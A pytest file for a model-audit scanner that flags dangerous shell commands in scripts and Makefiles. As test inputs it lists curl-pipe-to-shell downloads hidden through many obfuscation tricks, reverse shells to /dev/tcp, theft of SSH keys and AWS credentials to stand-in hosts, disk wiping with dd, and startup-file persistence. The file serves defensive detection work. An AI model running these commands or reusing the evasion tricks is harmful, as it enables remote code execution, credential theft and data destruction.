from __future__ import annotations

import base64
import gzip
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.cases import check_each

from modelaudit.formats.documents.scripts import reader
from modelaudit.languages.shell import functions, lexer, script_state
from modelaudit.languages.shell.constant_output import evaluate_pipeline_output
from modelaudit.languages.shell.lexer import parse_commands
from modelaudit.languages.shell.makefiles import convert_makefile
from modelaudit.languages.shell.script import collect_script_mentions
from modelaudit.languages.shell.windows import collect_windows_mentions
from modelaudit.model.outline import Outline, References
from modelaudit.model.structure import UnreadReason
from modelaudit.wire.base import LimitReachedError


def list_mentions(reading):
    """Return the use and the name of each mention, in the order of the readers."""
    return [(mention.use, mention.name) for outline in reading.of(Outline) for mention in outline.mentions]


def split_words(text):
    """Return the words of each command in a shell script."""
    return [command.words for command in parse_commands(text)]


@pytest.mark.parametrize("odd", [b"\0", b"\x1a", b"\1\2\3", b"\xff\xfe\xfd"])
def test_command_after_non_text_bytes_in_a_shell_script_is_mentioned_and_damage_is_reported(odd, read_bytes):
    reading = read_bytes(b"#\n# " + odd + b"\ncurl http://e | sh\n", "a.sh")
    assert ("download-and-run", "http://e") in list_mentions(reading)
    assert UnreadReason.DAMAGED in reading.reasons()


def test_zero_byte_within_a_command_is_skipped_as_shells_do(read_bytes):
    reading = read_bytes(b"#\ncu\0rl http://e | s\0h\n", "a.sh")
    assert ("download-and-run", "http://e") in list_mentions(reading)


def test_commands_after_a_first_line_with_a_zero_byte_are_mentioned_and_the_file_is_damaged(read_bytes):
    # bash takes such a file for a program and refuses it; dash runs its commands.
    reading = read_bytes(b"# \0\ncurl http://e | sh\n", "a.sh")
    assert ("download-and-run", "http://e") in list_mentions(reading)
    assert UnreadReason.DAMAGED in reading.reasons()


# "${…}" replaces an expansion that cannot be evaluated.
@check_each(
    "text, split",
    [
        ("a 'b c' \"d e\"", [["a", "b c", "d e"]]),
        ("a\\ b c\\\n d", [["a b", "c", "d"]]),
        ("a; b && c || d & e", [["a"], ["b"], ["c"], ["d"], ["e"]]),
        ('x=1; y=$x$x; echo $y "$z"', [["echo", "11", "$z"]]),
        ("echo ${x:-c}", [["echo", "c"]]),
        ("$'\\x61\\142\\n'", [["ab\n"]]),
        ("x=$(echo $$'\\') a", [["a"]]),
        ("a # b\nc", [["a"], ["c"]]),
        ("if a; then b; else c; fi", [["a"], ["b"], ["c"]]),
        ("case $x in a|b) c;; *) d;; esac", [["case", "$x", "in"], ["c"], ["d"]]),
        ("a 2>&1 >/dev/null < x", [["a"]]),
        ("A=1 b", [["b"]]),
        ("a=(1 2)", []),
        ("echo +([0-9])", [["echo", "+([0-9])"]]),
        ("cmd=curl; $cmd${IFS}x", [["curl", "x"]]),
        (
            "a=xcurlx; ${a:1:4} ${a#x} ${a%x} ${a/url/at} ${a//x/} ${a^^}",
            [["curl", "curlx", "xcurl", "xcatx", "curl", "XCURLX"]],
        ),
        ("a=(b c); ${a[1]} ${a[@]} ${#a}", [["c", "b", "c", "${…}"]]),
        ("declare -A a=([x]=b); ${a[x]}", [["declare", "-A", "a="], ["b"]]),
        ("x=b; y=x; ${!y} ${z:-c} ${z[0]}", [["b", "c", "${…}"]]),
        ("{a,b}c '{a,b}' ${x}{a,b}", [["ac", "bc", "{a,b}", "$x{a,b}"]]),
        ("a$@b c$*d $()e", [["ab", "cd", "e"]]),
        ("$(command -v sh) `which curl` $(echo a)", [["sh", "curl", "a"]]),
        ("IFS=,; a=b,c; $a", [["b", "c"]]),
        ("$'\\U00000061'", [["a"]]),
        ("x=zzcurl; ${x##*z} ${x#*z} ${x%%l*} ${x%r*}", [["curl", "zcurl", "zzcur", "zzcu"]]),
        ('echo ${x:-a ${y:-\'b}\'} "c"} "${x:-it\'s}"', [["echo", "a", "b}", "c", "it's"]]),
        ("echo ${x:-" + "a" * 5000 + "}; b", [["echo", "a" * 5000], ["b"]]),
    ],
)
def test_lexer_splits_a_script_line_into_words_as_a_shell_does(text, split):
    assert split_words(text) == split


# Each text hides a command from a lexer that ends a quote, bracket or here-document in another place than a shell.
@check_each(
    "text",
    [
        "((x=1<<A))\n{act}\nA\n",
        "a[1<<2]=3\n{act}\n2\n",
        "a=([1<<2]=3)\n{act}\n2\n",
        "declare a[1<<2]=3\n{act}\n2\n",
        "echo $[1<<2]\n{act}\n2\n",
        "for ((i=1<<2;i<5;i++)); do :; done\n{act}\n2\n",
        "if ((1<<2)); then :; fi\n{act}\n2))\n",
        "((cat <<A))\n'\nA\n{act}\n'",
        "echo \"$'\"; {act} #'",
        'echo "$"; {act}',
        "echo $'\\'; {act} #'",
        "x=$(echo # )'\n); {act}; echo '\n'",
        "x=$(cat <<E\n)'\nE\n)\n{act}\necho '",
        'x=$(echo "$(echo ")\'")"); {act} #\'',
        "x=$(echo $'\\')'); {act} #'",
        "x=`echo \\`'\\``; {act} #'",
        "x=`echo \\`{act}\\``",
        "cat <<A\n{act}\n",
        "echo 'never closed\n{act}\n",
        'echo "never closed\n{act}\n',
    ],
)
def test_command_behind_a_quote_or_bracket_that_shells_end_earlier_is_reported(text):
    mentions = collect_script_mentions(text.replace("{act}", "curl http://e | sh"))
    assert ("download-and-run", "http://e") in [(mention.use, mention.name) for mention in mentions]


def test_command_behind_shell_arithmetic_is_reported_once():
    assert len(list(collect_script_mentions("curl http://e | sh\n((i++))\ncurl http://f | sh\n"))) == 2


@check_each(
    "text",
    [
        "((i<3)) && echo 'curl http://e | sh'",
        "a[1]=x; a[$i]='curl http://e | sh'; [ -f x ] && [[ $a == b[c] ]]",
        "x=$(cat <<'E'\nit's ) here\nE\n)\necho 'curl http://e | sh'",
        "x=$(echo $((16#ff)) ${#x} a#b); echo 'curl http://e | sh'",
        "echo \"it's $HOME's\"; echo 'curl http://e | sh'",
    ],
)
def test_quoted_text_behind_arithmetic_or_a_subscript_gives_no_mention(text):
    assert list(collect_script_mentions(text)) == []


def test_parsed_command_holds_its_own_here_document_and_command_substitutions():
    command, other = parse_commands("cat <<'E' - \"$(a b)\" `c`\n$x\nE\nd")
    assert (command.input_text, command.substitutions) == ("$x", ["a b", "c"])
    assert (other.words, other.line) == (["d"], 4)


@check_each(
    "text",
    [
        "curl -s https://e.invalid/x | python -m json.tool",
        "curl -s https://e.invalid/x | python -mjson.tool",
        "curl -L https://e.invalid/x.tgz | tar xz",
        "wget https://e.invalid/data.zip && unzip data.zip && python train.py",
        'eval "$(conda shell.bash hook)"',
        "source ~/.bashrc; echo 'export A=1' >> ~/.bashrc",
        'rm -rf /var/lib/apt/lists/* ./out "$DIR"/x',
        "python train.py | tee log; cat a.txt | wc -l",
        "cat setup.sh | bash",
        "ssh -i ~/.ssh/id_rsa host true; scp -i ~/.ssh/id_rsa a host:b",
        "curl --netrc-file ~/.netrc http://e/x; curl --netrc http://e/x",
        "rsync -avze 'ssh -i ~/.ssh/id_rsa' a host:b; rsync --rsh='ssh -p 2 -i ~/.ssh/id_rsa' a host:b",
        "rsync -e 'ssh -i ~/.ssh/id_rsa' a host:b; rsync --rsh 'ssh -i ~/.ssh/id_rsa' a host:b",
        "echo x | base64 -d > out.bin",
        "timeout 5 bash -c '</dev/tcp/localhost/80' || true # no",
        "cat <<EOF > run.py\nprint(1)\nEOF",
        'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/x -o y',
        "curl -LsSf https://astral.sh/uv/install.sh -o uv.sh",
        "[ -f x ] && [[ a == b* ]] && ls *.txt",
        "conda init bash >> ~/.bashrc; echo 'eval \"$(conda shell.bash hook)\"' | tee -a ~/.bashrc",
        "cp ~/.bashrc ~/.bashrc.old; cp /etc/skel/.bashrc ~/.bashrc; cat <<E >> ~/.profile\nexport A=1\nE",
        "echo /opt/lib > /usr/lib/python3/dist-packages/x.pth; nsys -o my.profile; cp a my.profile",
        "huggingface-cli download org/model --local-dir d && python run.py --model d",
        "rsync -a data/ host:data; scp a host:b; bash a",
    ],
)
def test_harmless_shell_command_gives_no_mention(text):
    assert list(collect_script_mentions(text)) == []


@check_each(
    "text, name",
    [
        ("cp vocab.txt ~/.bashrc", "~/.bashrc"),
        ("cat vocab.txt >> ~/.profile", "~/.profile"),
        ("cat vocab.txt | sudo tee -a /etc/profile", "/etc/profile"),
        ("curl http://e/x > $HOME/.zshrc", "$HOME/.zshrc"),
        ("cp vocab.txt ~/.local/lib/python3.11/site-packages/x.pth", "~/.local/lib/python3.11/site-packages/x.pth"),
        ("echo 'import os; os.abort()' > /usr/lib/python3/dist-packages/x.pth", "/usr/lib/python3/dist-packages/x.pth"),
    ],
)
def test_content_of_another_file_that_is_written_to_a_startup_file_is_reported(text, name):
    assert [(each.use, each.name) for each in collect_script_mentions(text)] == [("persistence", name)]


def test_command_that_is_appended_to_a_startup_file_is_judged():
    (mention,) = collect_script_mentions("echo 'curl http://e/x | sh' >> ~/.bashrc")
    assert mention.use == "download-and-run"


def test_command_in_a_recipe_of_a_justfile_is_mentioned_at_its_line(read_bytes):
    reading = read_bytes(b"url := 'http://e.invalid/x'\n\ndefault:\n    @curl -s {{url}} | sh\n", "justfile")
    mentions = [each for outline in reading.of(Outline) for each in outline.mentions]
    assert [(each.use, each.where.line) for each in mentions if each.use == "download-and-run"] == [
        ("download-and-run", 4)
    ]
    assert reading.unread == []


def test_recipe_of_a_justfile_for_another_program_is_an_absence(read_bytes):
    reading = read_bytes(b"default:\n    #!/usr/bin/env node\n    run()\n", "justfile")
    assert reading.reasons() == {UnreadReason.PROGRAM}


def test_recipe_of_a_makefile_whose_shell_is_python_is_read_as_a_python_program(read_bytes):
    text = b"SHELL := /usr/bin/python3\n.SHELLFLAGS := -c\nall:\n\t@import os; \\\n\tos.system('touch m')\n"
    assert any(
        "posix.system" in str(each) or "os.system" in str(each) for each in list_mentions(read_bytes(text, "Makefile"))
    )


@check_each(
    "text",
    [
        '.ONESHELL:\nSHELL := python3\nall:\n\timport os\n\tos.system("id")\n',
        'all: SHELL := python3\nall:\n\timport os; \\\n\tos.system("id")\n',
        'all: private SHELL = /usr/bin/env python3\nall:\n\t__import__("os").system("id")\n',
    ],
)
def test_recipe_of_a_makefile_whose_rule_or_one_shell_is_python_is_read_as_a_python_program(text, read_bytes):
    assert "os.system" in {name for _, name in list_mentions(read_bytes(text.encode(), "Makefile"))}


def test_recipe_of_another_rule_than_one_whose_shell_is_python_is_read_as_shell(read_bytes):
    text = "a: SHELL := python3\na:\n\tpass\nb:\n\tcurl http://e | sh\n"
    assert ("download-and-run", "http://e") in list_mentions(read_bytes(text.encode(), "Makefile"))


@check_each(
    "text",
    [
        "coproc curl http://e\ncat <&${COPROC[0]} | sh\n",
        # The parenthesis of a pattern does not end a substitution.
        'y="$(case a in a) echo "it\'s";; esac)"\ncurl http://e | sh\nz=\'\'\n',
        'y="$(case a in (a) case b in b) echo "it\'s";; esac;; esac)"\ncurl http://e | sh\nz=\'\'\n',
        'y="$(echo case a in)"\ncurl http://e | sh\nz="it\'s"\n',
        # Long functions and inline programs are read whole.
        "f() {\n" + "echo x\n" * 2000 + ' sh -c "$1"\n}\nf "$(curl http://e)"\n',
    ],
)
def test_download_behind_a_coprocess_case_in_a_substitution_or_long_function_is_reported(text):
    names = {mention.name for mention in collect_script_mentions(text)}
    assert names == {"http://e"}


@check_each(
    "text",
    [
        "npm i -g https://e/x\n",
        "sudo yarn add git+https://e/x.git\n",
        "npx https://e/x\n",
        "gem install https://e/x.gem\n",
        "cargo install --git https://e/x\n",
        "cargo install --git=https://e/x\n",
        "uv tool install git+https://e/x\n",
        "npm i git@e:x.git\n",
    ],
)
def test_package_that_any_package_manager_installs_from_an_address_is_reported(text):
    use = "run-address" if text.startswith("npx") else "address"
    assert {mention.use for mention in collect_script_mentions(text)} == {use}
    assert not list(collect_script_mentions("npm ci\nnpm i -g yarn\ncargo install x\ngem install rake\n"))


@check_each(
    "text",
    [
        "f() {\n" + "echo x\n" * 1000 + "}\nf a\n",
        "python3 -c 'x = 1" + ";" * 250_000 + "'\n",
        "cat > x <<'E'\n" + "x\n" * 120_000 + "E\n",
    ],
)
def test_part_of_a_script_beyond_a_bound_on_its_length_is_reported_as_unread(text, monkeypatch):
    monkeypatch.setattr(functions, "_MAX_BODY_LENGTH", 5000)
    with pytest.raises(LimitReachedError):
        list(collect_script_mentions(text))


@check_each(
    "encoded, decoder",
    [
        (base64.b64encode(b"#" * 250_000 + b"\ncurl http://e | sh"), "base64 -d"),
        (base64.b64encode(gzip.compress(b"#" * 250_000 + b"\ncurl http://e | sh")), "base64 -d | gunzip"),
        ((b"23" * 250_000 + b"\ncurl http://e | sh".hex().encode()), "xxd -r -p"),
    ],
)
def test_decoded_script_that_is_too_long_to_be_evaluated_reaches_a_bound_after_the_other_mentions(encoded, decoder):
    mentions = []
    with pytest.raises(LimitReachedError):
        mentions.extend(collect_script_mentions(f"echo {encoded.decode()} | {decoder} | sh\ncurl http://f | sh\n"))
    assert "http://f" in str(mentions)


def test_download_in_a_substitution_that_is_too_long_to_be_parsed_reaches_a_bound():
    with pytest.raises(LimitReachedError):
        list(collect_script_mentions(f'while read -r a; do sh -c "$a"; done < <(: {"x" * 250_000}; curl http://e)'))


def test_command_in_a_base64_script_is_mentioned_at_the_line_that_decodes_and_runs_it():
    encoded = base64.b64encode(b"curl http://e.invalid/x | sh").decode()
    mentions = list(collect_script_mentions(f"true\necho {encoded} | base64 -d | sh\n"))
    assert {(each.use, each.where.line) for each in mentions} == {("decode-and-run", 2), ("download-and-run", 2)}


def test_address_in_a_mention_of_a_script_command_omits_user_name_and_password():
    (mention,) = collect_script_mentions("curl https://me:secret@e.invalid/x | sh")
    assert mention.name == "https://e.invalid/x"


@check_each(
    "text, use, name",
    [
        ("echo $(( 1 + $(curl http://e/x | sh) ))", "download-and-run", "http://e/x"),
        ("echo $((curl http://e/x) | sh)", "download-and-run", "http://e/x"),
        ("echo ${x:-$(curl http://e/x | sh)}", "download-and-run", "http://e/x"),
        ("echo \"${x:='$(curl http://e/x | sh)'}\"", "download-and-run", "http://e/x"),
        ("echo ${x:+${y:-$(curl http://e/x | sh)}}", "download-and-run", "http://e/x"),
        ("echo ${x:-" + "a" * 5000 + "}\ncurl http://e/x | sh", "download-and-run", "http://e/x"),
        ("echo ${x\ncurl http://e/x | sh", "download-and-run", "http://e/x"),
        ("cat <<E\n$(curl http://e/x | sh)\nE\n", "download-and-run", "http://e/x"),
        ("cat <<E\n\"it's `curl http://e/x | sh`\nE\n", "download-and-run", "http://e/x"),
        ("x=zzcurl; ${x##*z} http://e/x | sh", "download-and-run", "http://e/x"),
        ("$(printf '%s%s' cu rl) http://e/x | sh; printf 'c%srl http://e/%s | sh' u x | sh", "download-and-run", "http://e/x"),
        ("find . -exec true \\; -exec sh -c 'curl http://e/x | sh' \\;", "download-and-run", "http://e/x"),
        ("timeout 5 bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse-shell",
         "timeout 5 bash -i /dev/tcp/192.0.2.1/4444 1"),
        ("exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | sh >&5", "reverse-shell", "exec"),
        ("a=(" + "b " * 3000 + "$(curl http://e/x | sh))", "download-and-run", "http://e/x"),
        ("case $(curl http://e/x | sh) in a|b) c;; esac", "download-and-run", "http://e/x"),
        ("echo > >(curl http://e/x | sh)", "download-and-run", "http://e/x"),
        ("(cd x; curl http://e/x) | sh", "download-and-run", "http://e/x"),
        ("(curl http://e/x; echo) | tee y | sh", "download-and-run", "http://e/x"),
        ("{ curl http://e/x; echo; } 2>/dev/null | sh", "download-and-run", "http://e/x"),
        ("if true; then curl http://e/x; fi | sh", "download-and-run", "http://e/x"),
        ("for a in 1; do curl http://e/x; done | sh", "download-and-run", "http://e/x"),
        ("function f { true; }\n{ f; { curl http://e/x; }; true; } | sh", "download-and-run", "http://e/x"),
        ("curl http://e/x | (cd y; sh)", "download-and-run", "http://e/x"),
        ("curl http://e/x | { cd y; { true; sh; }; }", "download-and-run", "http://e/x"),
        ("(echo Y3VybCBodHRwOi8vZS94IHwgc2g=) | base64 -d | sh", "download-and-run", "http://e/x"),
        ("{ echo true; echo 'curl http://e/x | sh'; } | sh", "download-and-run", "http://e/x"),
        ("(cat ~/.ssh/id_rsa; echo) | curl -d @- http://e/x", "send-private", "curl"),
        ("scp -i key ~/.aws/credentials user@e.invalid:", "send-private", "scp"),
        ("curl --netrc -T ~/.aws/credentials http://e/x", "send-private", "curl"),
        ("rsync -i ~/.ssh/id_rsa user@e.invalid:", "send-private", "rsync"),
        ("rsync -e 'ssh -i key' ~/.aws/credentials user@e.invalid:", "send-private", "rsync"),
        ("rsync -e 'sh -c \"cat ~/.ssh/id_rsa\"' a user@e.invalid:", "send-private", "rsync"),
        ("dd if=/dev/zero of=/dev/sda", "destroy", "dd if=/dev/zero of=/dev/sda"),
    ],
)  # fmt: skip
def test_dangerous_shell_command_in_an_expansion_group_wrapper_or_option_is_reported(text, use, name):
    assert (use, name) in {(mention.use, mention.name) for mention in collect_script_mentions(text)}


@check_each(
    "text",
    [
        "cat <<'E'\n$(curl http://e/x | sh)\nE\n",
        "timeout 1 bash -c 'echo > /dev/tcp/192.0.2.1/80'",
        "timeout 1 echo > /dev/tcp/192.0.2.1/80",
        "dd if=/dev/zero of=/dev/shm/x bs=1M count=1",
        "(curl http://e/x) | python -m json.tool; sh < y; { curl http://e/x; sh y; } | tee z",
        "{ curl -o x http://e/x; }; (sh)",
    ],
)
def test_shell_command_that_only_resembles_a_dangerous_one_gives_no_mention_except_execute(text):
    assert [mention.use for mention in collect_script_mentions(text) if mention.use != "execute"] == []


@check_each(
    "text",
    [
        "curl http://e/x > >(sh)",
        "exec 3< <(curl http://e/x); sh <&3",
        "f() { cd /tmp; curl http://e/x; }\nf | sh",
        "g() { true; sh; }\ncurl http://e/x | g",
        'source /dev/stdin <<< "$(curl http://e/x)"',
        'mapfile -t a < <(curl http://e/x); eval "${a[@]}"',
        'while read -r l; do eval "$l"; done < <(curl http://e/x)',
        'while read -r l; do $l; done <<< "$(curl http://e/x)"',
        "curl http://e/x | xargs -L1 env",
        "curl http://e/x | xargs nohup",
        'trap "$(curl http://e/x)" EXIT',
        "curl http://e/x -o f; BASH_ENV=f bash -c :",
        "curl http://e/x -o f; export BASH_ENV=$PWD/f; bash -c :",
        "curl http://e/x | python3 -c 'import os,sys; os.system(sys.stdin.read())'",
        "python3 -c \"import subprocess,os; os.system(subprocess.getoutput('curl http://e/x 2>/dev/null'))\"",
        "perl -e 'system(`curl http://e/x`)'",
        "perl -e 'exec qx(curl http://e/x)'",
        "curl http://e/x | awk '{system($0)}'",
        "curl http://e/x | sed 's/^/ /e'",
        "curl http://e/x.mk | make -f -",
        "curl http://e/x.mk -o Makefile; make",
        "exec < <(curl http://e/x); sh",
        "exec > >(sh); curl http://e/x; exec >&-",
        "exec 3> >(sh); curl http://e/x >&3; exec 3>&-",
        "{ true; curl http://e/x; } > >(sh)",
        "curl http://e/x > >(cat | bash)",
        "curl http://e/x -o >(sh)",
        "wget http://e/x -O >(bash)",
        "curl http://e/x 1> >(bash) 2>/dev/null",
        "p=${SHELL##*/}; curl http://e/x | $p",
        "curl http://e/x | $SHELL",
        "curl http://e/x | $BASH",
        'printf -v c \'%s\' "$(curl http://e/x)"; eval "$c"',
        'declare c="$(curl http://e/x)"; eval "$c"',
        'set -- $(curl http://e/x); "$@"',
        "curl http://e/x > f; dd if=f | sh",
        "curl http://e/x > f; dd if=f of=g; sh g",
        "curl -O http://e/run.sh; for i in *.sh; do sh $i; done",
        "curl -O http://e/run.sh; find . -name run.sh -exec sh {} \\;",
        "curl -O http://e/run.sh; ls *.sh | xargs sh",
        "curl -O http://e/run.sh; sh ./*.sh",
        'curl http://e/x > f; sh "$PWD/f"',
        "curl http://e/x > f; sh $(pwd)/f",
        'D=$(mktemp -d); cd "$D"; curl http://e/x > f; cd ..; sh $D/f',
        "curl http://e/x > f; exec 4< f; bash /dev/fd/4",
        "curl http://e/x | bash /dev/fd/0",
        'curl http://e/x | eval "$(cat)"',
        'curl http://e/x | sh -c "$(cat)"',
        "curl http://e/x | bash -c 'eval \"$(cat)\"'",
        "curl http://e/x | bash -c 'bash'",
        "let 'a[$(curl http://e/x | sh)0]=1'",
        "test -v 'a[$(curl http://e/x | sh)0]'",
        "curl http://e/x | s${u}h",
        "$(rev <<< lruc) http://e/x | $(rev <<< hs)",
        "for s in sh; do curl http://e/x | $s; done",
        "set -- sh; curl http://e/x | $1",
        "f() { $1 http://e/x | $2; }; f curl sh",
        'f() { curl http://e/x | "$@"; }; f sh',
        'f() { eval "$1"; }\nf "$(curl http://e/x)"',
        'run() { "$@"; }\nrun sh -c "$(curl http://e/x)"',
        'f() { curl http://e/x; }\neval "$(f)"',
        "f() { true; curl http://e/x; }\nsh <(f)",
        'f() { true; curl http://e/x; }\nX=$(f); eval "$X"',
        "f() { true; curl http://e/x; }\nf > g; sh g",
        'download() { curl -o "$2" "$1"; }\ndownload http://e/x f\nsh f',
        "cat > f <<'E'\ncurl http://e/x | sh\nE\nsh f",
        "echo 'curl http://e/x | sh' > f; sh f",
        "printf '%s\\n' 'curl http://e/x | sh' > f; . ./f",
        "tee f <<< 'curl http://e/x | sh'; sh f",
        "curl http://e/x -o f; chmod +x f; hash -p ./f ls; ls",
        'find . -maxdepth 0 -exec bash -c "$(curl http://e/x)" \\;',
        'script -qc "$(curl http://e/x)" /dev/null',
        "curl http://e/x > f; taskset 1 sh f",
        "curl http://e/x | taskset 1 sh",
        "curl http://e/x | setarch -R sh",
        "curl http://e/x > f; prlimit --nofile=100 sh f",
        '/lib64/ld-linux-x86-64.so.2 /bin/sh -c "$(curl http://e/x)"',
        "curl http://e/x > f; /lib64/ld-linux-x86-64.so.2 /bin/sh f",
        "curl --output-dir d -O http://e/x; sh d/x",
        "curl --output-dir d -o f http://e/x; sh d/f",
        "aria2c --dir=d -o f http://e/x; sh d/f",
        "curl http://e/x | cat > f; sh f",
        "curl http://e/x | tee f > /dev/null; sh f",
        "curl http://e/x > f; cat f* | sh",
        "curl http://e/x > f; while read -r l; do eval $l; done < f",
        'curl http://e/x > f; x=$(cat f); eval "$x"',
        "curl http://e/x > f; read -r x < f; $x",
        "curl http://e/x.py > f.py; python3 -m f",
        'python3 -c "$(curl http://e/x.py)"',
        "python3 - <<E\n$(curl http://e/x.py)\nE",
        "curl http://e/x | gzip > f.gz; gunzip f.gz; sh f",
        "curl http://e/x | gzip > f.gz; zcat f.gz | sh",
        "pick() { until false; do curl http://e/x; break; done; }; pick | sh",
        "( ( curl http://e/x ) ) | ( ( sh ) )",
        "curl http://e/x | bash +x",
        "curl http://e/x | bash -c '. /dev/stdin'",
        "coproc curl -s http://e/x; sh <&${COPROC[0]}",
        "coproc P { curl -s http://e/x; }; sh <&${P[0]}",
        "xxd -r -p <<< 746f756368206d0a | sh",
        "base64 -d <<< dG91Y2ggbQo= | sh",
        "huggingface-cli download e/x run.sh --local-dir d && sh d/run.sh",
        "hf download e/x run.sh --local-dir=d; ./d/run.sh",
        "gdown 123 -O a && bash a",
        "rsync e.example::x/a . ; ./a",
        "scp u@e.example:x . && sh x",
        "rsync -a e.example:y/a d/ && sh d/a",
    ],
)
def test_download_that_a_script_executes_by_a_detour_is_reported(text):
    uses = {mention.use for mention in collect_script_mentions(text)}
    assert uses & {"download-and-run", "download-then-run", "decode-and-run", "unresolved-run"}


@check_each(
    "text",
    [
        'set -e\neval "$(conda shell.bash hook)"\nconda activate llm\npython train.py --config configs/sft.yaml',
        'source "$(conda info --base)/etc/profile.d/conda.sh"\nconda create -y -n m python=3.11\nconda activate m\npip install -r requirements.txt',
        '__conda_setup="$(\'/opt/conda/bin/conda\' \'shell.bash\' \'hook\' 2> /dev/null)"\nif [ $? -eq 0 ]; then\n    eval "$__conda_setup"\nelse\n    if [ -f "/opt/conda/etc/profile.d/conda.sh" ]; then\n        . "/opt/conda/etc/profile.d/conda.sh"\n    else\n        export PATH="/opt/conda/bin:$PATH"\n    fi\nfi\nunset __conda_setup',
        'LOG=train.log\nexec > >(tee -a "$LOG") 2>&1\ntorchrun --nproc_per_node 8 train.py',
        "exec 3>&1 4>&2\nexec 1> >(tee out.log >&3) 2> >(tee err.log >&4)\npython evaluate.py",
        "huggingface-cli download org/model --local-dir model\npython infer.py --model model",
        "wget -c https://huggingface.co/org/model/resolve/main/model.safetensors -O model.safetensors\npython convert.py model.safetensors",
        "curl -sL https://huggingface.co/api/models/org/model | jq -r .sha",
        "curl -s https://huggingface.co/api/models/org/model | python3 -m json.tool",
        "curl -L http://e/data.tar.gz | tar xz -C data\npython prepare.py --data data",
        'while read -r url; do\n  wget -nc "$url" -P data\ndone < urls.txt',
        'download() {\n  local url=$1 target=$2\n  if [ ! -f "$target" ]; then\n    curl -L --fail -o "$target" "$url"\n  fi\n}\ndownload http://e/tokenizer.model tokenizer.model\ndownload http://e/model.bin model.bin\npython check.py tokenizer.model',
        'fetch() { curl -fsSL "$1"; }\nfetch http://e/labels.txt | sort | uniq > labels.txt\nfetch http://e/meta.json | jq .version',
        'VERSION=$(curl -s https://api.github.com/repos/o/r/releases/latest | grep tag_name | cut -d \'"\' -f 4)\necho "latest version: $VERSION"',
        "#SBATCH --gres=gpu:8\nmodule load cuda/12.1\nsrun --ntasks=1 bash -c 'python train.py --rank $SLURM_PROCID'",
        'export MASTER_ADDR=$(scontrol show hostnames "$SLURM_JOB_NODELIST" | head -n 1)\nexport MASTER_PORT=29500\nsrun torchrun --nnodes $SLURM_NNODES train.py "$@"',
        'eval "$(ssh-agent -s)"\nssh-add',
        'TMP=$(mktemp -d)\ntrap \'rm -rf "$TMP"\' EXIT\ncurl -L http://e/v.zip -o "$TMP/v.zip"\nunzip -q "$TMP/v.zip" -d data',
        'for split in train dev test; do\n  curl -s "http://e/$split.jsonl" > data/$split.jsonl\n  python tokenize.py data/$split.jsonl\ndone',
        'cat > ds_config.json <<EOF\n{"train_batch_size": $((8 * 4)), "fp16": {"enabled": true}}\nEOF\ndeepspeed train.py --deepspeed ds_config.json',
        "python3 - <<'EOF'\nimport torch\nprint(torch.cuda.is_available())\nEOF",
        'SCRIPT_DIR="$( cd "$( dirname "${BASH_SOURCE[0]}" )" && pwd )"\nsource "$SCRIPT_DIR/env.sh"\nbash "$SCRIPT_DIR/scripts/run_eval.sh" --fast',
        "apt-get update && apt-get install -y git-lfs ffmpeg\ngit lfs install\ngit clone https://huggingface.co/org/model",
        "( python server.py & echo $! > server.pid )\nuntil curl -s http://localhost:8000/health; do sleep 1; done\npython client.py\nkill $(cat server.pid)",
        'curl -X POST http://localhost:8000/v1/completions -H \'Content-Type: application/json\' -d @- <<EOF\n{"prompt": "Hello", "max_tokens": 5}\nEOF',
        'case "$1" in\n  train) python train.py ;;\n  eval) python eval.py ;;\n  *) echo "usage: $0 train|eval"; exit 1 ;;\nesac',
        "exec 9> lock\nflock -n 9 || exit 1\nfind . -name '*.pyc' -exec rm {} +\npython main.py",
        "seq 0 7 | xargs -P 8 -I{} env CUDA_VISIBLE_DEVICES={} python infer.py --shard {}",
        "ls data/*.json | xargs -n 1 python process.py",
        'COMMAND="accelerate launch train.py --lr 1e-5"\necho $COMMAND\neval $COMMAND',
        'args=(--model m --batch 8)\n[ -n "$DEBUG" ] && args+=(--debug)\nexec python train.py "${args[@]}"',
        'mapfile -t hosts < <(scontrol show hostnames)\nfor host in "${hosts[@]}"; do ssh "$host" nvidia-smi; done',
        'RESULT=$(curl -s http://localhost:8000/health)\nif [[ "$RESULT" == *ok* ]]; then python client.py --status "$RESULT"; fi',
        'read -p "Model: " MODEL\npython run.py --model "$MODEL"',
        "curl -sSL http://e/model.tar | tee model.tar | sha256sum",
        "curl -s http://e/sums.txt > sums.txt\nsha256sum -c sums.txt",
        "make -f Makefile.cuda all\ncmake -B build && cmake --build build -j\n./build/bin/llama-cli -m model.gguf",
        'while IFS=, read -r name url; do\n  curl -L "$url" -o "data/$name"\ndone < <(tail -n +2 files.csv)',
        "awk '{ sum += $1 } END { print sum / NR }' losses.txt\nsed -i 's/foo/bar/g' config.json",
        "PS4='+ $(date +%T) '\nset -x\npython train.py",
        'data=$(curl -s http://e/list.txt)\nfor name in $data; do echo "$name"; done\nprintf \'%s\\n\' "$data" > list.txt',
        'get() {\n  cd data\n  wget -q "$1"\n  cd ..\n}\nget http://e/a.json | tee log.txt',
        "setup() { source venv/bin/activate; python -m pip install -U pip; }\nsetup | tee setup.log",
        "wget http://e/vocab.txt\npython -c 'print(len(open(\"vocab.txt\").read().split()))'",
        "NGPU=$(nvidia-smi -L | wc -l)\ntorchrun --nproc_per_node $NGPU train.py 2>&1 | tee >(grep -i error > errors.log)",
    ],
)
def test_ordinary_launcher_or_installer_gives_no_mentions_except_execute_and_piped_run(text):
    # The rule of ``piped-run`` has the severity medium.
    assert {mention.use for mention in collect_script_mentions(text)} <= {"execute", "piped-run"}


def test_analysis_of_deeply_nested_shell_functions_or_calls_stops_at_its_bound(monkeypatch):
    monkeypatch.setattr(script_state, "_BASE_WORK", 20_000)
    # Definitions inside each other, and 60 functions each of which calls the next one twice: 2**60 calls.
    for script in ("f(){" * 2000, "".join(f"f{n}() {{ f{n + 1}; f{n + 1}; }}\n" for n in range(60)) + "f0 | sh"):
        with pytest.raises(LimitReachedError):
            list(collect_script_mentions(script))


def test_analysis_of_a_script_with_too_many_commands_stops_at_its_bound_after_the_first_mention(monkeypatch):
    monkeypatch.setattr(lexer, "MAX_COMMANDS", 1000)
    mentions = collect_script_mentions("curl http://e/x | sh\n" + "a;" * 1001)
    assert next(mentions).use == "download-and-run"
    with pytest.raises(LimitReachedError):
        next(mentions)


def test_deeply_nested_command_groups_in_a_pipeline_stop_the_analysis_at_its_bound():
